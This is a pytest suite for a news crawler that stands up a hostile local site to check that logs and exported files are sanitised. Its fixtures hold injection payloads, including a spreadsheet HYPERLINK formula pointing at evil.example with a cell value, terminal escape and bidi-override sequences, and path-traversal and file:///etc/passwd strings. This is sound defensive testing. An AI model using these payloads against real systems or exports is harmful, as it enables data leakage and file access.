"""A crawl of a site that writes commands, formulas and ways out wherever it can: what comes of it is text, in data/."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path
from xml.etree import ElementTree

import pytest
from local_site import Answer, crawl, lines, serving, story

from newscrawl import records

CLEAR = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202e\u2028"
FORMULA = "=HYPERLINK(&quot;https://evil.example/&quot;&amp;A1)"
OBEYED = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069\ufffe\ud800-\udfff]")
WAYS_OUT = ("/../../../etc/passwd", "/..%2f..%2fout", "/%2e%2e/%00", "/con/nul.txt", f"/{'n' * 300}", "/a\\..\\..\\b")


def hostile() -> dict[str, Answer]:
    """Paths and answers; every text in them that a record, a log or a report may hold is one to be obeyed."""
    evil = story(1)
    head = f'<meta name="author" content="{FORMULA}"><meta name="keywords" content="@SUM(1),-2+3">'
    body = str(evil.body).replace("<head>", f"<head>{head}").replace("Harbour pilots", f"{FORMULA} {CLEAR} pilots")
    body = body.replace("nobody would", "nobody &#xD800;&#0;&#x202e;\u2028 [red]would[/red]")
    return {
        "/robots.txt": Answer(f"User-agent: *\nSitemap: /{CLEAR}\nDisallow: /private{CLEAR}\n", type="text/plain"),
        "/evil": Answer(body, headers={"X-Note": "\x1b[2J", "ETag": '"\x1b[31m"'}),
        "/type": Answer(str(story(2).body), type="text/html; charset=\x1b[31m"),
        "/moved": Answer("", 302, headers={"Location": "/to\x1b[2J\x9b"}),
        "/away": Answer("", 302, headers={"Location": "file:///etc/passwd\x1b[2J"}),
        "/fails\x1b[31m": Answer("no", 500),
        "/packed": Answer("no gzip", headers={"Content-Encoding": "gzip"}),
        "/odd": Answer("no", headers={"Content-Encoding": "\x1b[31m"}),
        **{path: story(number) for number, path in enumerate(WAYS_OUT, 3)},
    }  # fmt: skip


@pytest.fixture(scope="module")
def done(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    with serving(hostile()) as site:
        paths = ["/evil", "/type", "/moved", "/away", "/fails%1b[31m", "/packed", "/odd", *WAYS_OUT]
        links = [site.base + path for path in paths]
        items = "".join(
            f"<item><title>{FORMULA} &#x202e;&#x1b;[2J</title><link>{link}</link></item>"
            for link in (*links, f"{site.base}/gone&#x85;&#x202e;")
        )
        site.pages["/feed"] = Answer(f"<rss version='2.0'><channel>{items}</channel></rss>", type="application/rss+xml")
        site.source(folder, name="bay", sitemaps=[f"{site.base}/no\u202esitemap"])
        out = [
            part
            for name in ("out.csv", "out.jsonl", "out.json", "out.xml")
            for part in ("-O", str(folder / "data" / name))
        ]
        return crawl(folder, "bay", *out, "-s", "LOG_LEVEL=DEBUG", "-s", "RETRY_TIMES=1")


def test_the_run_ends_with_a_line_for_each_page(done):
    assert done.status == 0
    assert done.report["balanced"]
    assert done.report["articles"] >= 3
    assert done.report["rejected"] >= 5


def test_no_control_character_is_logged_and_no_line_is_forged(done):
    assert not OBEYED.search(done.log)
    assert "%1B" in done.log or "\ufffd" in done.log
    for line in done.log[done.log.index("Spider opened") :].splitlines()[1:]:
        assert re.match(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d \[[\w.]+\] [A-Z]+: | {4}", line), line


def test_every_line_is_json_to_a_strict_reader(done):
    written = [done.folder / "data" / "out.jsonl", *(done.folder / "data").rglob("rejected/*/*.jsonl")]
    assert len(written) == 2
    for path in written:
        assert strict_lines(path)
    for path in (done.folder / "data" / "runs").glob("*.json"):
        strict(path.read_bytes())


def test_no_cell_is_a_formula_and_json_lines_hold_what_was_written(done):
    with (done.folder / "data" / "out.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    kept = {line["url"]: line for line in strict_lines(done.folder / "data" / "out.jsonl")}
    assert list(rows[0]) == list(records.KEYS)
    assert len(rows) == len(kept)
    evil = next(url for url in kept if url.endswith("/evil"))
    cells = next(row for row in rows if row["url"] == evil)
    assert kept[evil]["title"].startswith("=HYPERLINK(")
    assert cells["title"] == f"'{kept[evil]['title']}"
    assert all(cell[:1] not in tuple("=+-@\t\r") for row in rows for cell in row.values() if cell)


def test_other_formats_of_scrapys_hold_the_same(done):
    kept = {line["url"]: line for line in strict_lines(done.folder / "data" / "out.jsonl")}
    listed = json.loads((done.folder / "data" / "out.json").read_text(encoding="utf-8"))
    assert {row["url"]: row for row in listed} == kept
    items = ElementTree.parse(done.folder / "data" / "out.xml").findall("item")
    assert {item.findtext("url"): item.findtext("title") for item in items} == {
        url: line["title"] for url, line in kept.items()
    }


def test_nothing_is_written_outside_data(done):
    made = {path.relative_to(done.folder).parts[0] for path in done.folder.rglob("*")}
    assert made == {"data", "sources"}
    names = {part for path in (done.folder / "data").rglob("*") for part in path.relative_to(done.folder).parts}
    assert all(re.fullmatch(r"[\w.-]+", name, re.ASCII) for name in names), names
    assert not any(path.is_symlink() for path in done.folder.rglob("*"))


def strict_lines(path: Path) -> list[dict]:
    """JSON lines as the strictest reader takes them: UTF-8, no other line end in them, no NaN, no half characters."""
    text = path.read_bytes().decode("utf-8")
    assert text.endswith("\n")
    assert text.count("\n") == len(text.splitlines())
    return [strict(line.encode()) for line in text.splitlines()]


def strict(line: bytes) -> dict:
    def refuse(constant: str) -> None:
        raise AssertionError(constant)

    def once(pairs: list) -> dict:
        assert len({key for key, _ in pairs}) == len(pairs)
        return dict(pairs)

    read = json.loads(line.decode("utf-8"), parse_constant=refuse, object_pairs_hook=once)
    assert not OBEYED.search(json.dumps(read, ensure_ascii=False).replace("\\n", ""))
    json.dumps(read, ensure_ascii=False).encode("utf-8")
    return read


def test_what_could_not_be_stored_elsewhere_ends_the_run_as_a_full_disk_does_and_is_asked_for_again(tmp_path):
    """Scrapy's own storage of FTP, at a port where nobody listens: S3 and GCS are told by the same count."""
    with serving({"/1": story(1)}) as site:
        site.pages["/feed"] = site.feed("/1", "/2")
        site.source(tmp_path)
        known = ("-s", "NEWSCRAWL_INCREMENTAL=1")
        lost = crawl(tmp_path, "bay", "-O", "ftp://127.0.0.1:9/out.jsonl", *known)
        assert (lost.status, lost.report["finish_reason"]) == (1, "output_failed")
        assert "ERROR: an output could not be stored: the log says which and why" in lost.log
        assert "ftp://127.0.0.1:9/out.jsonl" in lost.log
        again = crawl(tmp_path, "bay", "-O", str(tmp_path / "out.jsonl"), *known)
    assert (again.status, again.report["finish_reason"], again.report["articles"]) == (0, "finished", 1)
    assert [record["url"] for record in lines(tmp_path / "out.jsonl")] == [f"{site.base}/1"]
